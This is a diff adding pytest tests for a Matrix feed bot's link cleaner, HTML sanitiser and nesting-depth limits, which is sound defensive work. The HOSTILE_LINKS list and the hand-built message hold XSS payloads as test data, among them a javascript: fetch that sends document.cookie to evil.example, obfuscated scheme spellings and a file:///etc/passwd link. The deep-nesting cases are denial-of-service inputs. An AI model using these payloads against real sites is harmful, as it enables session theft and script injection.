@@ -3,16 +3,37 @@
 from __future__ import annotations
 
 import html
+import re
+import time
 from datetime import UTC, datetime
+from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 
+from bot.feeds.decide import fingerprint
 from bot.model import Entry, Message
-from bot.render import ALLOWED_TAGS, format_date, html_to_text, render_entry, sanitize_html
+from bot.render import (
+    ALLOWED_TAGS,
+    DEFAULT_MAX_MESSAGE_BYTES,
+    MAX_DEPTH,
+    TITLE_CHARS,
+    bounded_title,
+    clean_link,
+    format_date,
+    html_to_text,
+    link_markup,
+    message_size,
+    render_entry,
+    safe_event_content,
+    safe_state_content,
+    sanitize_html,
+)
 
 NBSP = "\u00a0"
 NNBSP = "\u202f"
 LINK = "https://interhop.org/2025/12/22/goupile"
+GOLDEN = Path(__file__).parent / "data" / "golden"
 
 
 def entry(**overrides: object) -> Entry:
@@ -367,3 +388,207 @@ def test_all_french_months() -> None:
     months = [format_date(datetime(2025, m, 10), "fr").split()[1] for m in range(1, 13)]
     assert months == ["janvier", "février", "mars", "avril", "mai", "juin", "juillet",
                       "août", "septembre", "octobre", "novembre", "décembre"]
+
+
+# --- issue 10: one link cleaner, one sanitiser, bounded depth and titles -----------------
+
+# Every spelling of a link that must never be one (WHATWG drops tabs, newlines and leading
+# controls before reading the scheme: "java\tscript:" is javascript:).
+HOSTILE_LINKS = [
+    "javascript:fetch('https://evil.example/steal?c='+document.cookie)",
+    "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\tscript:alert(1)",
+    "jav\nascript:alert(1)", "\x01\x02javascript:alert(1)", "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DaTa:text/html,x",
+    "&#106;avascript:alert(1)", "file:///etc/passwd", "//evil.example/x", "/relative",
+    "https:evil.example", "http://", "", None,
+]
+
+
+class _Links(HTMLParser):
+    """Every href and img src of some HTML, decoded as a browser decodes them."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.hrefs: list[str] = []
+        self.images: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if tag == "a" and name == "href":
+                self.hrefs.append(value or "")
+            if tag == "img" and name == "src":
+                self.images.append(value or "")
+
+
+def nesting_depth(markup: str) -> int:
+    """How deep elements nest in ``markup`` (an independent count, void tags excluded)."""
+    class Depth(HTMLParser):
+        depth = deepest = 0
+
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if tag not in ("br", "hr", "img"):
+                self.depth += 1
+                self.deepest = max(self.deepest, self.depth)
+
+        def handle_endtag(self, tag: str) -> None:
+            self.depth -= 1
+
+    counter = Depth()
+    counter.feed(markup)
+    return counter.deepest
+
+
+def web_link(value: str) -> bool:
+    return value.startswith(("https://", "http://", "mailto:"))
+
+
+@pytest.mark.parametrize("link", HOSTILE_LINKS)
+def test_no_spelling_of_a_hostile_link_becomes_a_link(link: str | None) -> None:
+    assert clean_link(link) is None
+    assert link_markup("Titre <b>", link) == "Titre &lt;b&gt;"
+    message = render_entry(entry(link=link))
+    # No link at all: not the title's, not even the summary's relative one (no base).
+    assert _Links(message.html).hrefs == []
+    assert "script:" not in message.body.lower() and "data:" not in message.body.lower()
+
+
+def test_clean_link_keeps_web_links_in_a_form_safe_everywhere() -> None:
+    assert clean_link(LINK) == LINK
+    assert clean_link(f"  {LINK}\n") == LINK
+    assert clean_link("HTTP://Example.org/a b\"<c>") == "HTTP://Example.org/a%20b%22%3Cc%3E"
+    # A bidi override would make the address read as another one; accents stay readable.
+    assert clean_link("https://example.org/\u202egnp.exe") == "https://example.org/%E2%80%AEgnp.exe"
+    assert clean_link("https://example.org/santé") == "https://example.org/santé"
+    assert clean_link("https://example.org/" + "a" * 2000) is None
+    for link in (LINK, "HTTP://Example.org/a b", "https://example.org/\u202e"):
+        once = clean_link(link)
+        assert once is not None and clean_link(once) == once
+    assert link_markup('Un "titre" & <cie>', LINK + '?a=1&b="2"') == (
+        f'<a href="{LINK}?a=1&amp;b=%222%22">Un "titre" &amp; &lt;cie&gt;</a>')
+
+
+def test_the_send_chokepoint_cleans_a_hand_built_message() -> None:
+    # As a future code path might build it: every spelling, in an edit too.
+    dirty_html = (
+        '<p><a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt:alert(2)">b</a> '
+        '<a href="java&#9;script:alert(3)">c</a> <a href="&#106;avascript:alert(4)">d</a> '
+        '<a href="data:text/html,x">e</a> <a href=" vbscript:x">f</a> '
+        '<a href="https://ok.example/a b">ok</a><script>alert(5)</script>'
+        '<img src="https://tracker.example/p.gif"><img src="data:image/png;base64,AA==">'
+        '<img src="mxc://hs.example/abc" alt="pic" width="10" height="10" onerror="x"></p>')
+    dirty_body = "Voir javascript:alert(1) ou (data:text/html,x) mais https://x.example/?q=data:1"
+    replacement = {"msgtype": "m.notice", "body": dirty_body,
+                   "format": "org.matrix.custom.html", "formatted_body": dirty_html}
+    dirty = {**replacement, "m.new_content": dict(replacement),
+             "m.relates_to": {"rel_type": "m.replace", "event_id": "$x"}, "m.mentions": {}}
+    safe = safe_event_content(dirty)
+    assert dirty["formatted_body"] == dirty_html          # the caller's dict is untouched
+    for content in (safe, safe["m.new_content"]):
+        assert isinstance(content, dict)
+        links = _Links(str(content["formatted_body"]))
+        assert links.hrefs == ["https://ok.example/a%20b"]
+        assert links.images == ["mxc://hs.example/abc"]   # the bot's own inline image stays
+        for text in (str(content["formatted_body"]), str(content["body"])):
+            assert "alert(5)" not in text and "onerror" not in text
+            # What a linkifier would take for a scheme is broken by a word joiner.
+            assert re.search(r"(?i)(?<![\w=])(javascript|data):", text) is None, text
+        assert content["body"] == dirty_body.replace("javascript:", "javascript\u2060:") \
+            .replace("(data:", "(data\u2060:")
+    assert safe["m.relates_to"] == dirty["m.relates_to"] and safe["m.mentions"] == {}
+
+
+def test_the_send_chokepoint_changes_nothing_the_bot_renders() -> None:
+    # Items are sanitised when rendered: the chokepoint must leave them as they are (so a
+    # resend is the same event), golden files and an inline image included.
+    contents = [{"body": (GOLDEN / f"{name}.txt").read_text().strip(),
+                 "formatted_body": (GOLDEN / f"{name}.html").read_text().strip()}
+                for name in sorted({p.stem for p in GOLDEN.glob("*.html")})]
+    message = render_entry(entry())
+    contents.append({"body": message.body, "formatted_body": message.html.replace(
+        "</p>", '</p><p><img src="mxc://hs.example/abc" alt="Goupile : l&#x27;image" '
+        'width="640" height="480"></p>', 1)})
+    for content in contents:
+        once = safe_event_content(content)
+        assert safe_event_content(once) == once
+        assert once["body"] == content["body"]
+    for content in contents[:-1]:
+        assert safe_event_content(content) == content
+
+
+def test_a_topic_is_cleaned_like_a_message() -> None:
+    content = {"topic": "Annonces — Dernier : Titre javascript:alert(1)",
+               "m.topic": {"m.text": [
+                   {"mimetype": "text/html", "body": '<a href="javascript:x">t</a>'},
+                   {"body": "data:text/html,x"}]}}
+    safe = safe_state_content("m.room.topic", content)
+    assert safe["topic"] == "Annonces — Dernier : Titre javascript\u2060:alert(1)"
+    assert safe["m.topic"] == {"m.text": [{"mimetype": "text/html", "body": "<a>t</a>"},
+                                          {"body": "data\u2060:text/html,x"}]}
+    assert safe_state_content("m.room.name", {"name": "javascript:x"}) == {"name": "javascript:x"}
+
+
+@pytest.mark.parametrize("depth", [3_000, 20_000])
+def test_deeply_nested_html_renders_and_fingerprints(depth: int) -> None:
+    # 3,000 nested <div> raised RecursionError in every walk of the tree.
+    deep = "<div>" * depth + "<p>Tout au fond.</p>" + "</div>" * depth
+    nested = entry(summary_html="", content_html="<p>En surface.</p>" + deep)
+    for content in ("summary", "full"):
+        message = render_entry(nested, content=content)
+        assert "En surface." in message.body
+        assert nesting_depth(message.html) <= MAX_DEPTH
+        assert message_size(message) <= DEFAULT_MAX_MESSAGE_BYTES
+    assert "Tout au fond." in render_entry(nested, content="full").body
+    assert "Tout au fond." in html_to_text(deep)
+    assert fingerprint(nested) != fingerprint(entry(summary_html="", content_html=deep))
+
+
+# What html5ever (inside nh3) nests without bound, each spending time quadratic in the
+# depth: 20,000 nested <div> took 1.8 s in nh3 alone, 100,000 took 80 s.
+DEEP_PATTERNS = {
+    "div": "<div>{}</div>", "unclosed div": "<div>x{}", "list": "<ul><li>{}",
+    "quote": "<blockquote>{}", "misnested": "<b><div></b>{}", "link": '<a href="/"><div></a>{}',
+    "comment": "<div><!--</div>-->{}", "attribute": '<div title="</div>">{}',
+    "spaced end": "<div></ div>{}", "table": "<table><tr><td><div>{}",
+}
+
+
+@pytest.mark.parametrize("pattern", DEEP_PATTERNS.values(), ids=list(DEEP_PATTERNS))
+def test_sanitised_html_never_nests_deeper_than_the_bound(pattern: str) -> None:
+    before, after = pattern.split("{}")
+    markup = before * 20_000 + "<p>fond</p>" + after * 20_000
+    clean = sanitize_html(markup)
+    assert nesting_depth(clean) <= MAX_DEPTH
+    assert "fond" in html_to_text(clean)
+
+
+def test_a_hundred_thousand_nested_divs_take_seconds_not_minutes() -> None:
+    deep = "<div>" * 100_000 + "<p>Tout au fond.</p>" + "</div>" * 100_000
+    started = time.monotonic()
+    message = render_entry(entry(summary_html="", content_html=deep), content="full")
+    assert time.monotonic() - started < 60      # 80 s in nh3 alone without the bound
+    assert "Tout au fond." in message.body
+
+
+def test_an_ordinary_document_reaches_the_sanitiser_unchanged() -> None:
+    # The depth bound only rewrites deep documents: 99 levels are kept as they are.
+    markup = "<div>" * 99 + "<p>x</p>" + "</div>" * 99
+    assert sanitize_html(markup) == markup
+    assert nesting_depth(sanitize_html("<div>" * 101 + "x")) == MAX_DEPTH
+
+
+@pytest.mark.parametrize("title", ["mot " * 17_500, "x" * 70_000])
+def test_a_70000_character_title_renders_under_the_budget(title: str) -> None:
+    message = render_entry(entry(title=title))
+    assert message_size(message) <= DEFAULT_MAX_MESSAGE_BYTES
+    shown = message.body.split("\n", 1)[0]
+    assert len(shown) <= 251 and shown.endswith("…")
+
+
+def test_bounded_title() -> None:
+    assert bounded_title("  Un\ttitre\n court ") == "Un titre court"
+    long = bounded_title("mot " * 1000)
+    assert len(long) <= TITLE_CHARS + 1 and long.endswith("mot…")
+    assert len(bounded_title("x" * 70_000)) == TITLE_CHARS + 1
+    assert bounded_title("mot " * 1000, 20) == "mot mot mot mot mot…"
